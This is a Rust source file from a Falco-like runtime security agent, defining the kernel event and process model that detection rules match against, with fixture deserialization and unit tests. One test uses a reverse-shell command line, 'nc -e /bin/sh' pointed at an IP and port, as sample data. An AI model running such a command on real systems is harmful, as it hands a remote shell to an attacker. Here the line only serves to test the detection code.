//! The event model the matcher reads.
//!
//! The agent builds one [`Event`] per kernel record (exec, open, connect, setuid, clone,
//! exit). Parts shared between many events are reference counted: the process table
//! holds `Arc<Process>` and the pod/container cache holds `Arc<Container>`, so building
//! an event is a few pointer copies. Everything the matcher needs is precomputed here
//! (the command line, the `fd.name` of sockets) so that matching borrows `&str` and
//! integers and never allocates.
//!
//! All types implement `serde::Deserialize` with defaults so rule fixtures can write
//! events in YAML (see `fixture.rs`).

use std::collections::BTreeMap;
use std::sync::{Arc, OnceLock};

use serde::Deserialize;

pub use crate::fields::fd::{Fd, FdKind, FileFacts, L4Proto};
pub use crate::fields::flags::{format_open_flags, parse_open_flags, OPEN_FLAGS, O_ACCMODE};
pub use crate::runtime::container::{Container, HealthProbe, Mount, Mounts, Pod, ProbeKind};
pub use crate::runtime::evt_type::{EvtType, TypeMask, UnknownEvtType};

/// A process's ancestors, parent first (`Arc<[]>`: cloned per event without copying).
pub type Ancestors = Arc<[Arc<Process>]>;

/// One kernel event, with the process, its ancestry and container context attached.
#[derive(Clone, Debug, Deserialize)]
#[serde(try_from = "EventSpec")]
pub struct Event {
    pub evt_type: EvtType,
    /// Unix time in nanoseconds.
    pub time_ns: u64,
    /// Syscall return value: >= 0 is success, negative is `-errno`.
    pub res: i64,
    pub proc: Arc<Process>,
    /// Ancestors, parent first; shared, so events of one process reuse one chain.
    pub ancestors: Ancestors,
    /// The file or socket the syscall acted on (openat, connect).
    pub fd: Option<Fd>,
    /// Target uid of `setuid`.
    pub setuid_target: Option<u32>,
    /// The target uid's user name, resolved in the process's own root (`evt.arg.uid`).
    pub setuid_target_name: Option<Box<str>>,
    /// `None` for host processes.
    pub container: Option<Arc<Container>>,
    /// Syscall arguments by Falco's parameter names (`evt.arg.<name>`), for the event
    /// types that carry them (symlink, ptrace, socket...).
    pub args: Vec<EvtArg>,
}

/// Parameter names Lanner fills for some captured event type, exactly as Falco's event
/// table names them: `evt.arg.<name>` and `evt.rawarg.<name>` resolve for these.
#[rustfmt::skip]
pub const ARG_NAMES: &[&str] = &[
    "target", "linkpath", "linkdirfd", "oldpath", "newpath", "olddir", "newdir", "olddirfd", "newdirfd", "path",
    "dirfd", "name", "filename", "mode", "fd", "request", "pid", "domain", "type", "proto", "length", "uargs", "flags",
    "nstype", "dev", "dir", "cmd", "res_or_fd", "oldfd", "newfd", "pathname", "uid", "gid", "addr", "tuple",
    "backlog", "cap_inheritable", "cap_permitted", "cap_effective", "rgid", "egid", "sgid", "option", "arg2_str",
    "arg2_int", "mountfd", "entries", "sq_entries", "cq_entries", "sq_thread_cpu", "sq_thread_idle", "features",
    "sig",
];

/// One syscall argument: `text` as Falco's `evt.arg.<name>` renders it (flag names,
/// resolved paths), `raw` the number `evt.rawarg.<name>` gives (`None` for strings),
/// `passed` a path as the program passed it when `text` is that path made absolute
/// (`fs.path.nameraw`, `sourceraw`, `targetraw`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct EvtArg {
    pub name: &'static str,
    pub text: Box<str>,
    pub raw: Option<i64>,
    pub passed: Option<Box<str>>,
}

impl EvtArg {
    /// A string argument (a path, a name).
    pub fn text(name: &'static str, text: impl Into<String>) -> EvtArg {
        EvtArg { name, text: text.into().into_boxed_str(), raw: None, passed: None }
    }

    /// A path argument made absolute (`resolved`), and as the program passed it
    /// (kept only when it differs).
    pub fn path(name: &'static str, resolved: impl Into<String>, passed: &str) -> EvtArg {
        let text = resolved.into().into_boxed_str();
        let passed = (*text != *passed).then(|| passed.into());
        EvtArg { name, text, raw: None, passed }
    }

    /// A numeric argument rendered as its decimal value.
    pub fn num(name: &'static str, v: i64) -> EvtArg {
        EvtArg { name, text: v.to_string().into_boxed_str(), raw: Some(v), passed: None }
    }

    /// A numeric argument with its own rendering (flag names).
    pub fn named(name: &'static str, v: i64, text: impl Into<String>) -> EvtArg {
        EvtArg { name, text: text.into().into_boxed_str(), raw: Some(v), passed: None }
    }

    /// The path as passed (`fs.path.*raw`): `passed`, else `text`.
    pub fn as_passed(&self) -> &str {
        self.passed.as_deref().unwrap_or(&self.text)
    }
}

impl Event {
    /// A minimal event of the given type for `proc`, with no fd, ancestry or container.
    pub fn new(evt_type: EvtType, time_ns: u64, proc: Arc<Process>) -> Event {
        Event {
            evt_type,
            time_ns,
            res: 0,
            proc,
            ancestors: Ancestors::default(),
            fd: None,
            setuid_target: None,
            setuid_target_name: None,
            container: None,
            args: Vec::new(),
        }
    }

    /// The argument named `name` (a Falco parameter name), if this event has it.
    #[inline]
    pub fn arg(&self, name: &str) -> Option<&EvtArg> {
        self.args.iter().find(|a| a.name == name)
    }

    /// The parent process, if known.
    pub fn parent(&self) -> Option<&Process> {
        self.ancestors.first().map(|p| &**p)
    }
}

/// Fixed default time of fixture events: 2026-11-23T12:00:00Z.
pub const DEFAULT_FIXTURE_TIME_NS: u64 = 1_795_435_200_000_000_000;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct EventSpec {
    #[serde(alias = "type", alias = "evt.type")]
    evt_type: EvtType,
    #[serde(default = "default_time")]
    time_ns: u64,
    #[serde(default)]
    res: i64,
    #[serde(default)]
    proc: Process,
    #[serde(default)]
    ancestors: Vec<Process>,
    #[serde(default)]
    fd: Option<Fd>,
    #[serde(default)]
    setuid_target: Option<u32>,
    #[serde(default)]
    setuid_target_name: Option<Box<str>>,
    #[serde(default)]
    container: Option<Container>,
    /// `evt.arg.<name>` values: a number (also `evt.rawarg.<name>`), a string,
    /// `{raw: N, text: NAME}` for a number Falco renders by name (flags, enums), or
    /// `{path: ABSOLUTE, passed: AS_PASSED}` for a path argument made absolute.
    #[serde(default)]
    args: BTreeMap<String, ArgSpec>,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum ArgSpec {
    Num(i64),
    Text(String),
    Named { raw: i64, text: String },
    Path { path: String, passed: String },
}

fn default_time() -> u64 {
    DEFAULT_FIXTURE_TIME_NS
}

impl TryFrom<EventSpec> for Event {
    type Error = String;
    fn try_from(s: EventSpec) -> Result<Event, String> {
        let mut args = Vec::with_capacity(s.args.len());
        for (k, v) in s.args {
            let name = ARG_NAMES
                .iter()
                .copied()
                .find(|n| *n == k)
                .ok_or_else(|| format!("unknown argument '{k}' (expected one of {})", ARG_NAMES.join(", ")))?;
            args.push(match v {
                ArgSpec::Num(n) => EvtArg::num(name, n),
                ArgSpec::Text(t) => EvtArg::text(name, t),
                ArgSpec::Named { raw, text } => EvtArg::named(name, raw, text),
                ArgSpec::Path { path, passed } => EvtArg::path(name, path, &passed),
            });
        }
        Ok(Event {
            evt_type: s.evt_type,
            time_ns: s.time_ns,
            res: s.res,
            proc: Arc::new(s.proc),
            ancestors: s.ancestors.into_iter().map(Arc::new).collect(),
            fd: s.fd,
            setuid_target: s.setuid_target,
            setuid_target_name: s.setuid_target_name,
            container: s.container.map(Arc::new),
            args,
        })
    }
}

/// A process (thread group) as the agent's process table knows it.
///
/// Build it with [`Process::new`] (or `Default::default()`) and set the public fields,
/// then call [`Process::precompute`] before sharing it in an `Arc`: `proc.cmdline` and
/// `proc.args` are computed once and cached, so change `name`/`args` only before that
/// (a `clone()` starts with an empty cache).
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(from = "ProcessSpec")]
pub struct Process {
    pub pid: u32,
    pub ppid: u32,
    pub tid: u32,
    pub uid: u32,
    pub gid: u32,
    /// Audit login uid; `None` (or `u32::MAX`) when unset, shown as -1 like Falco.
    pub loginuid: Option<u32>,
    pub user_name: Option<String>,
    /// `comm` / executable base name (`proc.name`).
    pub name: String,
    /// Full path of the executable (`proc.exepath`).
    pub exepath: String,
    /// `argv[0]` (`proc.exe`).
    pub exe: String,
    /// `argv[1..]`.
    pub args: Vec<String>,
    /// The agent could not copy every argument.
    pub args_truncated: bool,
    /// Controlling terminal device number, 0 when none.
    pub tty: u32,
    pub cwd: Option<String>,
    /// The executable's inode (`mm->exe_file`), its change and modification times
    /// (ns since the epoch); `None` when the exec was not seen.
    pub exe_ino: Option<u64>,
    pub exe_ctime_ns: Option<u64>,
    pub exe_mtime_ns: Option<u64>,
    /// The executable is a memfd, on an overlayfs upper/lower layer, writable by the process.
    pub exe_from_memfd: Option<bool>,
    pub exe_upper_layer: Option<bool>,
    pub exe_lower_layer: Option<bool>,
    pub exe_writable: Option<bool>,
    /// Capability sets as Falco prints them (`CAP_CHOWN CAP_KILL`, empty when none);
    /// shared, since a node has few distinct sets (`caps::CapNames` interns them).
    pub cap_inheritable: Option<Arc<str>>,
    pub cap_permitted: Option<Arc<str>>,
    pub cap_effective: Option<Arc<str>>,
    /// Session id and process-group id (initial pid namespace).
    pub sid: Option<u32>,
    pub pgid: Option<u32>,
    /// Ids in the process's own pid namespace.
    pub vpid: Option<u32>,
    pub vtid: Option<u32>,
    pub vpgid: Option<u32>,
    /// The open-files soft limit at exec (`RLIMIT_NOFILE`), `proc.fdlimit`.
    pub fdlimit: Option<u32>,
    /// The session leader and the process-group leader, as the table knew them at exec.
    pub session_leader: Option<Arc<Leader>>,
    pub group_leader: Option<Arc<Leader>>,
    /// Process start, ns since the epoch.
    pub start_ns: Option<u64>,
    /// The environment of the image, `NAME=value` items (one shared buffer).
    pub env: crate::runtime::env::Env,
    pub env_truncated: bool,
    /// Login uid's name, the user's home and shell, the group's name (from the
    /// process's own root's /etc/passwd and /etc/group).
    pub loginname: Option<String>,
    pub homedir: Option<String>,
    pub shell: Option<String>,
    pub group_name: Option<String>,
    cache: ProcCache,
}

/// Strings derived once per process (not per event).
#[derive(Debug, Default)]
struct ProcCache {
    cmdline: OnceLock<Box<str>>,
    args: OnceLock<Box<str>>,
}

/// A clone starts with an empty cache: the agent may clone a parent's `Process` and
/// change its name and arguments for an exec.
impl Clone for ProcCache {
    fn clone(&self) -> Self {
        ProcCache::default()
    }
}

impl Process {
    /// A process with the given name, executable path and arguments; other fields zero.
    pub fn new(name: &str, exepath: &str, args: &[&str]) -> Process {
        Process {
            name: name.to_string(),
            exepath: exepath.to_string(),
            exe: if exepath.is_empty() { name.to_string() } else { exepath.to_string() },
            args: args.iter().map(|a| a.to_string()).collect(),
            ..Process::default()
        }
    }

    /// `proc.cmdline`: `name + " " + args.join(" ")`, computed once per process.
    pub fn cmdline(&self) -> &str {
        self.cache.cmdline.get_or_init(|| {
            let mut s = String::with_capacity(self.name.len() + 1 + self.args().len());
            s.push_str(&self.name);
            if !self.args.is_empty() {
                s.push(' ');
                s.push_str(self.args());
            }
            s.into_boxed_str()
        })
    }

    /// `proc.args`: the arguments joined with spaces, computed once per process.
    pub fn args(&self) -> &str {
        self.cache.args.get_or_init(|| self.args.join(" ").into_boxed_str())
    }

    /// `proc.env`: the environment items joined with spaces (stored that way).
    pub fn env(&self) -> &str {
        self.env.joined()
    }

    /// `proc.env[NAME]`: the value of one variable.
    pub fn env_var(&self, name: &str) -> Option<&str> {
        self.env.get(name)
    }

    /// Compute the cached strings now, so the first event of this process does not
    /// allocate on the match path. The agent should call this when it creates a process.
    pub fn precompute(&self) {
        let _ = self.cmdline();
    }

    /// Login uid as Falco shows it: -1 when unset.
    pub fn loginuid_i64(&self) -> i64 {
        match self.loginuid {
            None | Some(u32::MAX) => -1,
            Some(v) => i64::from(v),
        }
    }
}

#[derive(Deserialize, Default)]
#[serde(default, deny_unknown_fields)]
struct ProcessSpec {
    pid: Option<u32>,
    ppid: u32,
    tid: Option<u32>,
    uid: u32,
    gid: u32,
    loginuid: Option<u32>,
    #[serde(alias = "user")]
    user_name: Option<String>,
    name: Option<String>,
    exepath: Option<String>,
    exe: Option<String>,
    args: Vec<String>,
    args_truncated: bool,
    tty: u32,
    cwd: Option<String>,
    exe_ino: Option<u64>,
    exe_ctime_ns: Option<u64>,
    exe_mtime_ns: Option<u64>,
    exe_from_memfd: Option<bool>,
    exe_upper_layer: Option<bool>,
    exe_lower_layer: Option<bool>,
    exe_writable: Option<bool>,
    cap_inheritable: Option<String>,
    cap_permitted: Option<String>,
    cap_effective: Option<String>,
    sid: Option<u32>,
    pgid: Option<u32>,
    vpid: Option<u32>,
    vtid: Option<u32>,
    vpgid: Option<u32>,
    fdlimit: Option<u32>,
    session_leader: Option<Leader>,
    group_leader: Option<Leader>,
    start_ns: Option<u64>,
    env: Vec<String>,
    env_truncated: bool,
    loginname: Option<String>,
    homedir: Option<String>,
    shell: Option<String>,
    group_name: Option<String>,
}

impl From<ProcessSpec> for Process {
    fn from(s: ProcessSpec) -> Process {
        let exepath = s.exepath.unwrap_or_default();
        let name = s.name.unwrap_or_else(|| exepath.rsplit('/').next().unwrap_or_default().to_string());
        let exe = s.exe.unwrap_or_else(|| if exepath.is_empty() { name.clone() } else { exepath.clone() });
        let pid = s.pid.unwrap_or(1000);
        let p = Process {
            pid,
            ppid: s.ppid,
            tid: s.tid.unwrap_or(pid),
            uid: s.uid,
            gid: s.gid,
            loginuid: s.loginuid,
            user_name: s.user_name,
            name,
            exepath,
            exe,
            args: s.args,
            args_truncated: s.args_truncated,
            tty: s.tty,
            cwd: s.cwd,
            exe_ino: s.exe_ino,
            exe_ctime_ns: s.exe_ctime_ns,
            exe_mtime_ns: s.exe_mtime_ns,
            exe_from_memfd: s.exe_from_memfd,
            exe_upper_layer: s.exe_upper_layer,
            exe_lower_layer: s.exe_lower_layer,
            exe_writable: s.exe_writable,
            cap_inheritable: s.cap_inheritable.map(Into::into),
            cap_permitted: s.cap_permitted.map(Into::into),
            cap_effective: s.cap_effective.map(Into::into),
            sid: s.sid,
            pgid: s.pgid,
            vpid: s.vpid,
            vtid: s.vtid,
            vpgid: s.vpgid,
            fdlimit: s.fdlimit,
            session_leader: s.session_leader.map(Arc::new),
            group_leader: s.group_leader.map(Arc::new),
            start_ns: s.start_ns,
            env: crate::runtime::env::Env::new(s.env),
            env_truncated: s.env_truncated,
            loginname: s.loginname,
            homedir: s.homedir,
            shell: s.shell,
            group_name: s.group_name,
            cache: ProcCache::default(),
        };
        p.precompute();
        p
    }
}

/// A session or process-group leader: what `proc.sname`, `proc.sid.exe`,
/// `proc.vpgid.name`... show.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Leader {
    pub name: String,
    pub exe: String,
    pub exepath: String,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cmdline_and_args() {
        let p = Process::new("nc", "/usr/bin/nc", &["-e", "/bin/sh", "10.0.0.1", "4444"]);
        assert_eq!(p.cmdline(), "nc -e /bin/sh 10.0.0.1 4444");
        assert_eq!(p.args(), "-e /bin/sh 10.0.0.1 4444");
        let q = Process::new("true", "/bin/true", &[]);
        assert_eq!(q.cmdline(), "true");
    }

    #[test]
    fn clone_does_not_keep_a_stale_cmdline() {
        let parent = Process::new("bash", "/bin/bash", &[]);
        parent.precompute();
        let mut child = parent.clone();
        child.name = "curl".into();
        child.args = vec!["-s".into(), "x".into()];
        assert_eq!(child.cmdline(), "curl -s x");
        assert_eq!(parent.cmdline(), "bash");
    }

    #[test]
    fn short_id_and_aliases() {
        let c = Container { id: "0123456789abcdef0123".into(), ..Default::default() };
        assert_eq!(c.short_id(), "0123456789ab");
        assert_eq!(EvtType::from_falco_name("openat2"), Some(EvtType::Openat));
        assert_eq!(EvtType::from_falco_name("sendto"), None);
        assert!("bogus".parse::<EvtType>().is_err());
        let p = Process { loginuid: Some(u32::MAX), ..Default::default() };
        assert_eq!(p.loginuid_i64(), -1);
    }
}
